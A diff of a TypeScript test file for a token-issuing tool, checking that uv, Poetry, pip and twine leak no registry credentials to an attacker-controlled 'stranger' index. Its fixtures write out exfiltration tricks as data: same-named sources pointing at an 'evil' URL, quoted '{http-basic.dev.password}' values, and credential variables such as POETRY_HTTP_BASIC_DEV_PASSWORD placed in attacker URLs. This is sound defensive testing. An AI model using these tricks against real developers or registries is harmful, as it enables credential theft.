@@ -44,10 +44,15 @@ async function write(folder: string, files: Files): Promise<string> {
 }
 
 let forms = 0
+/** A folder of its own for a form. */
+function place(files: Files): Promise<string> {
+  forms += 1
+  return write(join(stage.box.home, `form-${forms}/app`), files)
+}
+
 /** Runs a form with a token; gives what the stranger heard in between. */
 async function heardOf([, command, files]: Form, options: readonly string[]): Promise<readonly string[]> {
-  forms += 1
-  const cwd = await write(join(stage.box.home, `form-${forms}/app`), await files())
+  const cwd = await place(await files())
   const [asked, minted] = [stranger.heard.length, stage.emulator.issuedTokens().length]
   await stage.caSync(['exec', ...options, '--', 'sh', '-c', command], { env, cwd, timeoutMs: 120_000 })
   expect(stage.emulator.issuedTokens().length).toBeGreaterThan(minted)
@@ -59,6 +64,14 @@ async function nothingTold(form: Form, options: readonly string[] = []): Promise
   const heard = await heardOf(form, options)
   expect(heard).not.toEqual([])
   expect(tokensIn(stage, heard)).toEqual([])
+}
+
+/** The command does not start, no token is asked for, and the message has what would send it elsewhere. */
+async function refused(command: readonly string[], cwd: string, options: readonly string[] = []): Promise<void> {
+  const [asked, minted] = [stranger.heard.length, stage.emulator.issuedTokens().length]
+  const { code, stderr } = await stage.caSync(['exec', ...options, '--', ...command], { env, cwd })
+  expect({ code, stderr }).toEqual({ code: 3, stderr: expect.stringMatching(/127\.0\.0\.1|\{http-basic…\}/) })
+  expect([stranger.heard.length, stage.emulator.issuedTokens().length]).toEqual([asked, minted])
 }
 
 const wanted = 'some-lib'
@@ -121,7 +134,7 @@ describe('uv, and a stranger whose index has the name of ours', () => {
       async () => ({ 'pyproject.toml': lib(`git = "${await repository({ 'pyproject.toml': theirs('DEV') })}"`) }),
     ],
     ['in a script', `${lock} --script script.py`, () => beside('script.py', script('DEV'))],
-    ['in a script that runs', 'uv run --no-project script.py', () => beside('script.py', script('dev'))],
+    ['in a script that runs', 'uv run --no-project script.py', () => beside('script.py', script('DEV'))],
     ['in a uv.toml', lock, () => beside('uv.toml', settings('dev'))],
     ['in a uv.toml with a byte-order mark', lock, () => beside('uv.toml', `\ufeff${settings('DEV')}`)],
     ['in a uv.toml of more than 1 MiB', lock, () => beside('uv.toml', settings('DEV') + '#\n'.repeat(600_000))],
@@ -141,7 +154,7 @@ describe('uv, and a stranger whose index has the name of ours', () => {
     [
       'in another project, whose folder the command goes to',
       `cd ../other && ${lock}`,
-      () => beside('../other/pyproject.toml', theirs('dev')),
+      () => beside('../other/pyproject.toml', theirs('DEV')),
     ],
     [
       'in another project that the command is about',
@@ -164,23 +177,30 @@ describe('uv, and a stranger whose index has the name of ours', () => {
     ["in the user's own uv.toml", lock, () => beside('../../.config/uv/uv.toml', settings('DEV'))],
   ]
 
-  test.each(table)('%s', async (...form) => nothingTold(form, ['--for', 'uv', '-s', 'dev']))
-})
+  const options = ['--for', 'uv', '-s', 'dev']
+  test.each(table)('%s', async (...form) => nothingTold(form, options))
 
-/** Each variable that has a name that a file can know: pip and uv put those into URLs where a file says `${NAME}`. */
-const known = ['POETRY_HTTP_BASIC_DEV_PASSWORD', 'CA_SYNC_KEYRING', 'CA_SYNC_TOKEN_', 'PYTHON_KEYRING_BACKEND']
+  // Where only uv sees his, ours takes its place.
+  const unseen: readonly Form[] = [
+    ['a script', 'uv run --no-project script.py', () => beside('script.py', script('dev'))],
+    ['another project', `cd ../other && ${lock}`, () => beside('../other/pyproject.toml', theirs('dev'))],
+    ['a path dependency', lock, () => ({ 'pyproject.toml': lib('path = "lib"'), 'lib/pyproject.toml': theirs('dev') })],
+  ]
+  test.each(unseen)('by the very name, in %s', async (...form) => {
+    expect(tokensIn(stage, await heardOf(form, options))).toEqual([])
+  })
+})
 
 describe.each(['2.5', '1.8'] as const)('Poetry %s, and a stranger', (line) => {
   beforeAll(() => open(line))
   afterAll(close)
 
-  const project = (...tables: readonly string[]) =>
+  const described = (...tables: readonly string[]) =>
     `[tool.poetry]\nname = "app"\nversion = "0.1.0"\ndescription = ""\nauthors = ["S <s@example.com>"]\n
 [tool.poetry.dependencies]\npython = ">=3.9"\n\n${tables.join('\n')}`
-  const ours = (name: string, ...tables: readonly string[]) => project(plugin({ name }), ...tables)
+  const ours = (name: string, ...tables: readonly string[]) => described(plugin({ name }), ...tables)
   const his = (name: string, url = evil) => declared(name, url())
-  const theirs = (name: string) => ({ '../other/pyproject.toml': project(his(name)) })
-  const add = (name: string, options = '') => `poetry add ${options} ${wanted} --source ${name} -n`
+  const add = (name: string) => `poetry add ${wanted} --source ${name} -n`
   const publish = (name: string) => `poetry publish -n -r ${name}`
   const sources =
     (name: string, source: string, url = evil) =>
@@ -201,16 +221,6 @@ describe.each(['2.5', '1.8'] as const)('Poetry %s, and a stranger', (line) => {
 
   const table: readonly Form[] = [
     ['whose source is the same variable', add('my_dev'), sources('my-dev', 'my_dev')],
-    [
-      'whose source has the name, in another folder',
-      `cd ../other && ${add('dev')}`,
-      () => ({ 'pyproject.toml': ours('dev'), ...theirs('dev') }),
-    ],
-    [
-      'that Poetry goes to',
-      add('dev', '--directory ../other'),
-      () => ({ 'pyproject.toml': ours('dev'), ...theirs('dev') }),
-    ],
     ['with our user name', add('my_dev'), sources('my-dev', 'my_dev', () => evil().replace('://', '://aws@'))],
     [
       'who sends one on to our host',
@@ -220,36 +230,45 @@ describe.each(['2.5', '1.8'] as const)('Poetry %s, and a stranger', (line) => {
     ['who quotes our password as his name', add('evil'), quoting('{http-basic.dev.password}')],
     ['who writes the quote otherwise', add('evil'), quoting('{http_basic-dev.password}')],
     ['who quotes our password in where to publish', publish('evil'), publishing('{http-basic.dev.password}')],
-    [
-      'to whom one publishes by the name, in another folder',
-      `cd ../other && ${publish('dev')}`,
-      () => ({
-        'pyproject.toml': ours('dev'),
-        ...theirs('evil'),
-        '../other/poetry.toml': `[repositories.dev]\nurl = "${evil()}"\n`,
-        '../other/dist/app-0.1.0-py3-none-any.whl': dist()['dist/app-0.1.0-py3-none-any.whl'],
-      }),
-    ],
-    [
-      'who is in a variable',
-      `POETRY_REPOSITORIES_DEV_URL=$EVIL ${publish('dev')}`,
-      () => ({ 'pyproject.toml': ours('dev'), ...dist() }),
-    ],
-    [
-      'who has uv quote what has a name',
-      `uv pip compile in.txt`,
-      () => ({
-        'pyproject.toml': ours('dev'),
-        'in.txt': `x @ ${stranger.url}/x-1.0-py3-none-any.whl?${known.map((name) => `\${${name}}`).join('&')}\n`,
-      }),
-    ],
-  ]
-  // Poetry 1.8 quotes no tables.
-  const tables: readonly Form[] = [
     ['who quotes all of our login there', publish('evil'), publishing('{http-basic.dev}')],
     ['who quotes all logins there', publish('evil'), publishing('{http-basic}')],
   ]
-  test.each([...table, ...(line === '2.5' ? tables : [])])('%s', async (...form) => nothingTold(form))
+  test.each(table)('%s', async (_, command, files) => {
+    await refused(['sh', '-c', command], await place(await files()))
+  })
+
+  const quoted = () => ({
+    '../other/pyproject.toml': described(his('evil')),
+    '../other/poetry.toml': quoting('{http-basic.dev.password}')()['poetry.toml'],
+  })
+  const theirs = () => ({ '../other/pyproject.toml': described(his('dev')) })
+  const elsewhere: readonly Form[] = [
+    ['before the command', 'poetry -C ../other add some-lib --source dev -n', theirs],
+    ['joined, and by his quote', 'poetry add some-lib --source evil -nC../other', quoted],
+    ['behind it', 'poetry add some-lib --source dev -n --directory ../other', theirs],
+    ['with =', `poetry add some-lib --source dev -n --directory=../other`, theirs],
+  ]
+  const projects: readonly Form[] = [
+    ['as a project', 'poetry -P ../other add some-lib --source dev -n', theirs],
+    ['as a project, behind', 'poetry add some-lib --source dev -n --project=../other', theirs],
+    ['in short', 'poetry add some-lib --source dev -n --dir ../other', theirs],
+    ['from a folder', 'poetry add some-lib --source dev -n -C .. -P other', theirs],
+  ]
+  test.each([...elsewhere, ...(line === '2.5' ? projects : [])])(
+    'whose project Poetry is sent to: %s',
+    async (_, command, files) => {
+      const cwd = await place({ 'pyproject.toml': ours('dev'), ...(await files()) })
+      await refused(command.split(' '), cwd)
+      // Through a shell it is not seen: README warns of that. It shows that Poetry does go there.
+      const through: Form = ['', command, () => ({ 'pyproject.toml': ours('dev'), ...files() })]
+      expect(tokensIn(stage, await heardOf(through, []))).not.toEqual([])
+    },
+  )
+
+  test('whose project one is in, with tokens of another', async () => {
+    const cwd = await place({ 'pyproject.toml': ours('dev'), ...theirs() })
+    await refused(['poetry', 'add', wanted, '--source', 'dev'], join(cwd, '../other'), ['-C', cwd])
+  })
 })
 
 describe('pip and twine, and a stranger', () => {
@@ -302,10 +321,15 @@ describe('pip and twine, and a stranger', () => {
 
   // README warns of these. Where one fails, the tool has been mended, and the warning is to go.
   const quoted = (name: string) => `x @ ${stranger.url}/x-1.0-py3-none-any.whl?\${${name}}`
-  test.each<[tool: string, command: string, Form[2]]>([
+  test.each<Form>([
     ['pip', pip, () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('PIP_INDEX_URL')}\n` })],
     ['uv', 'uv pip compile in.txt', () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('UV_INDEX')}\n` })],
-  ])('%s puts variables that a file names into a URL', async (...form) => {
+    [
+      'poetry',
+      'uv pip compile in.txt',
+      () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('POETRY_HTTP_BASIC_DEV_PASSWORD')}\n` }),
+    ],
+  ])('variables for %s, which pip or uv puts into a URL where a file names them', async (...form) => {
     expect(tokensIn(stage, await heardOf(form, ['--for', form[0]]))).not.toEqual([])
   })
 })
